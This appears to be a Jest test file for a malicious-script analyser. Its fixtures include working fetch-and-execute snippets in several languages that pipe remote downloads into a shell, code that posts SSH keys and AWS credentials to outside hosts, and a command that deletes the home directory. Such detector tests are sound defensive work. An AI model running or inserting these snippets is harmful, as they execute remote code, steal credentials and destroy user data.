import { expect, test } from '@jest/globals';
import { analyse } from '../../analyse.js';

async function rulesOf(path: string, text: string): Promise<readonly string[]> {
  const file = { path, mode: 0o644, content: Buffer.from(text), role: 'script' as const };
  const { findings } = await analyse([file]);
  return findings
    .filter(({ severity }) => severity === 'HIGH' || severity === 'CRITICAL')
    .map(({ rule }) => rule);
}

test.each([
  ['a.rb', "require 'open-uri'\neval(URI.open('https://cdn.run-tools.top/a.rb').read)\n"],
  ['a.php', "<?php\n$c = file_get_contents('http://45.9.148.3/u');\nshell_exec($c);\n"],
  ['a.pl', 'use LWP::Simple;\nmy $x = get("https://cdn.run-tools.top/a");\neval $x;\n'],
  [
    'a.applescript',
    'do shell script "curl -s http://45.9.148.3/x | sh" with administrator privileges\n',
  ],
  ['a.c', 'int main() {\n  system("curl -s http://45.9.148.3/x | sh");\n}\n'],
  [
    'a.rs',
    'fn main() {\n  Command::new("sh")\n    .arg("-c")\n    .arg("curl -s http://45.9.148.3/x | sh")\n    .status();\n}\n',
  ],
  [
    'a.go',
    'r, _ := http.Get("https://cdn.run-tools.top/x")\nf, _ := os.Create("/tmp/.s")\nio.Copy(f, r.Body)\nexec.Command("/tmp/.s").Run()\n',
  ],
])('%s runs what it fetches', async (path, text) => {
  expect(await rulesOf(path, text)).toContain('fetch-execute/remote-code');
});

test.each([
  [
    'a.rb',
    "key = File.read(File.expand_path('~/.ssh/id_ed25519'))\nNet::HTTP.post(URI('https://hooks.run-tools.top/n'), key)\n",
  ],
  [
    'a.go',
    'b, _ := os.ReadFile(os.Getenv("HOME") + "/.aws/credentials")\nhttp.Post("https://m.run-tools.top/v1", "text/plain", bytes.NewBuffer(b))\n',
  ],
  [
    'a.php',
    "<?php\n$d = file_get_contents(getenv('HOME').'/.aws/credentials');\n$ch = curl_init('https://m.run-tools.top/r');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);\ncurl_exec($ch);\n",
  ],
])('%s sends a secret', async (path, text) => {
  expect(await rulesOf(path, text)).toContain('exfiltration/secret-sent');
});

test('a folder of the user that is removed', async () => {
  const text = "FileUtils.rm_rf(Dir.glob(File.expand_path('~/*')))\n";
  expect(await rulesOf('Rakefile', text)).toEqual(['destruction/data-deleted']);
});

test.each([
  ['a.rb', "body = File.read('CHANGELOG.md')\nNet::HTTP.post(URI(ENV.fetch('URL')), body)\n"],
  ['a.go', 'r, _ := http.Get("http://localhost:8080/health")\nfmt.Println(r.StatusCode)\n'],
  ['a.rs', 'fn main() {\n  Command::new("git").arg("status").output();\n}\n'],
  ['a.php', '<?php\n# curl http://45.9.148.3/x | sh\necho \'eval(get("http://45.9.148.3"))\';\n'],
  ['Rakefile', "task(:clean) { FileUtils.rm_rf('build') }\n"],
  ['a.java', 'String s = Files.readString(Path.of("build", "m.txt"));\nSystem.out.println(s);\n'],
])('%s is innocent', async (path, text) => {
  expect(await rulesOf(path, text)).toEqual([]);
});

test('long and broken programs are read in time that grows with their length', async () => {
  for (const piece of ['qq{', "'", '(', 'a.b.c(', '"#{', '/*', 'x = y\n', 'system '])
    expect(await rulesOf('a.rb', piece.repeat(50_000))).toEqual([]);
});
